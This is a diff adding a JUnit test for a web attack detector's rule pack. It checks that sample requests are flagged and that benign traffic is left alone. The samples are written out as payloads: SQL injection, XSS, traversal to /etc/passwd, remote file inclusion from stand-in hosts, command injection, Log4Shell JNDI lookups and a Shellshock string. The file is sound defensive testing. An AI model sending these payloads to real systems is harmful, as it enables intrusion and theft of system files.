@@ -1,0 +1,161 @@
+package org.evident.detect;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.List;
+import org.evident.log.Request;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+
+/** The built-in rule pack (../rules), judged on attacks of every class and on benign traffic. */
+class RulePackTest {
+  static Detector detector;
+
+  static List<RuleFile> builtIn() throws IOException {
+    List<RuleFile> files = new ArrayList<>();
+    for (String l : Files.readAllLines(Path.of("../rules/default.list"))) {
+      if (!l.isBlank() && !l.startsWith("#")) {
+        files.add(new RuleFile(l, Files.readString(Path.of("../rules", l))));
+      }
+    }
+    return files;
+  }
+
+  @BeforeAll
+  static void load() throws IOException {
+    detector = new Detector(RuleSet.parse(builtIn()));
+  }
+
+  static Request get(String target, String agent, int status) {
+    return new Request(0, "192.0.2.1", null, "GET", target, "HTTP/1.1", status, 1, null, agent,
+        null);
+  }
+
+  @ParameterizedTest(name = "{1}: {0}")
+  @CsvSource(delimiter = '|', value = {
+      "/p?id=1%20UNION%20ALL%20SELECT%20NULL,NULL--|sqli|",
+      "/p?id=1'%20or%20'1'='1|sqli|",
+      "/p?id=1%20AND%201=1|sqli|",
+      "/p?id=1%27%29%20AND%20SLEEP%285%29%23|sqli|",
+      "/p?id=1;DROP%20TABLE%20users|sqli|",
+      "/p?id=1/**/UnIoN/**/SeLeCt/**/1,2|sqli|",
+      "/p?id=%2531%2527%2520or%25201%253D1|sqli|",
+      "/p?u=admin'--|sqli|",
+      "/p?id=1%20and%20extractvalue(1,concat(0x7e,version()))|sqli|",
+      "/s?q=%3Cscript%3Ealert(1)%3C/script%3E|xss|",
+      "/s?q=%22%3E%3Csvg/onload=alert(1)%3E|xss|",
+      "/s?q=%26lt;img%20src=x%20onerror=prompt(1)%26gt;|xss|",
+      "/s?q=javascript%3Aalert(document.domain)|xss|",
+      "/s?q=%u003cscript%u003e|xss|",
+      "/d?f=../../../../etc/passwd|traversal|",
+      "/static/..%252f..%252fetc%252fshadow|traversal|",
+      "/d?f=..%c0%af..%c0%afboot.ini|traversal|",
+      "/d?f=php://filter/convert.base64-encode/resource=index.php|traversal|",
+      "/i?page=http://198.51.100.7/shell.txt?|rfi|",
+      "/i?page=http://evil.example/c99.php|rfi|",
+      "/c?h=127.0.0.1;cat%20/etc/hosts|cmdi|",
+      "/c?h=x%7Cid|cmdi|",
+      "/c?h=$(whoami)|cmdi|",
+      "/c?h=a%0aid|cmdi|",
+      "/|log4shell|${jndi:ldap://x.example/a}",
+      "/?x=%24%7B%24%7B::-j%7Dndi:rmi://x.example/a%7D|log4shell|",
+      "/cgi-bin/status|shellshock|() { :; }; echo; /bin/cat /etc/passwd",
+      "/.env|sensitive-file|",
+      "/.git/config|sensitive-file|",
+      "/wp-config.php.bak|sensitive-file|",
+      "/backup.sql.gz|sensitive-file|",
+      "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php|admin-probe|",
+      "/|scanner|Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)",
+      "/|scanner|gobuster/3.6"})
+  void detectsAttacks(String target, String attackClass, String agent) {
+    Verdict v = detector.judge(get(target, agent, 200), "site");
+    assertThat(v.attack()).as("%s %s", target, v).isTrue();
+    assertThat(v.attackClass()).as("%s", v).isEqualTo(attackClass);
+    assertThat(v.matches()).allSatisfy(m -> assertThat(m.fragment()).isNotBlank());
+  }
+
+  @Test
+  void adminProbesCountOnlyWhenTheSiteHasNoSuchPage() {
+    assertThat(detector.judge(get("/wp-login.php", "x", 404), "s").attackClass())
+        .isEqualTo("admin-probe");
+    assertThat(detector.judge(get("/wp-login.php", "x", 200), "s").attack()).isFalse();
+  }
+
+  @Test
+  void namesTools() {
+    Verdict v = detector.judge(get("/p?id=1%20AND%205621=5621", "sqlmap/1.7.2#stable", 200),
+        "s");
+    assertThat(v.attackClass()).isEqualTo("sqli");
+    assertThat(v.tool()).isEqualTo("sqlmap");
+    assertThat(detector.judge(get("/p?id=1%20AND%205621=5621", "Mozilla/5.0", 200), "s").tool())
+        .as("request shape").isEqualTo("sqlmap");
+  }
+
+  @ParameterizedTest
+  @CsvSource(delimiter = '|', value = {
+      "/search?q=select+a+shoe", "/search?q=O%27Brien", "/search?q=rock+%26+roll",
+      "/search?q=union+jack+socks", "/search?q=what+is+1%3D1", "/s?q=%E9%9E%8B%E5%AD%90",
+      "/contact?subject=Where%27s+my+order%3F", "/api?items=%5B%7B%22id%22%3A4%7D%5D",
+      "/?utm_source=news&fbclid=IwAR2xYz_09-aZ", "/auth?token=eyJhbGciOiJIUzI1NiJ9.eyJzIjoxfQ.x",
+      "/products/trail-boot-17?color=brown&size=44", "/blog/how-to-choose", "/robots.txt",
+      "/static/app.3f9a1c.js", "/login?next=%2Faccount", "/downloads/manual.zip",
+      "/search?q=tom+%26+jerry", "/search?q=drop+shipping", "/wp-login.php"})
+  void leavesBenignTrafficAlone(String target) {
+    Verdict v = detector.judge(get(target, "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
+        + " AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", 200), "s");
+    assertThat(v.attack()).as("%s", v).isFalse();
+  }
+
+  @Test
+  void allowListsAndDisablingWork() throws IOException {
+    List<RuleFile> files = new ArrayList<>(builtIn());
+    files.add(new RuleFile("local.yaml", "disable: [EV-950100]\nallow:\n"
+        + "  - {rule: EV-930100, path: '^/docs/', site: docs.example}\n"
+        + "  - {source: 192.0.2.0/24, rule: EV-941100}\n"));
+    Detector d = new Detector(RuleSet.parse(files));
+    assertThat(d.judge(get("/.env", "x", 404), "s").attack()).isFalse();
+    Request traversal = get("/docs/../x", "x", 200);
+    assertThat(d.judge(traversal, "docs.example").attack()).isFalse();
+    assertThat(d.judge(traversal, "other.example").attack()).isTrue();
+    assertThat(d.judge(get("/s?q=%3Cscript%3E", "x", 200), "s").ruleIds())
+        .doesNotContain("EV-941100");
+  }
+
+  @Test
+  void ruleSetCarriesVersionAndHash() throws IOException {
+    RuleSet rs = RuleSet.parse(builtIn());
+    assertThat(rs.version()).contains("evident 2026.11.0");
+    assertThat(rs.sha256()).hasSize(64);
+    List<RuleFile> changed = new ArrayList<>(builtIn());
+    changed.add(new RuleFile("x.yaml", "# nothing"));
+    assertThat(RuleSet.parse(changed).sha256()).isNotEqualTo(rs.sha256());
+  }
+
+  @Test
+  void badRuleFilesAreExplained() {
+    assertThatThrownBy(() -> RuleSet.parse(List.of(new RuleFile("a.yaml",
+        "rules:\n  - {id: X1, class: x, targets: [path], rx: '(a)\\1'}"))))
+        .hasMessageContaining("a.yaml: rule X1").hasMessageContaining("RE2");
+    assertThatThrownBy(() -> RuleSet.parse(List.of(new RuleFile("b.yaml",
+        "rules:\n  - {id: X2, class: x, targets: [body], rx: a}"))))
+        .hasMessageContaining("unknown target");
+    assertThatThrownBy(() -> RuleSet.parse(List.of(new RuleFile("c.yaml", "rules: ["))))
+        .hasMessageContaining("c.yaml: not valid YAML");
+  }
+
+  @Test
+  void hostileInputStaysLinear() {
+    String bait = "/?q=" + "'".repeat(20_000) + "a".repeat(200_000) + "%25".repeat(10_000);
+    long t0 = System.nanoTime();
+    detector.judge(get(bait, "(".repeat(50_000), 200), "s");
+    // no timing assertion (tests never assert timings); this line must simply return
+    assertThat(System.nanoTime() - t0).isPositive();
+  }
+}
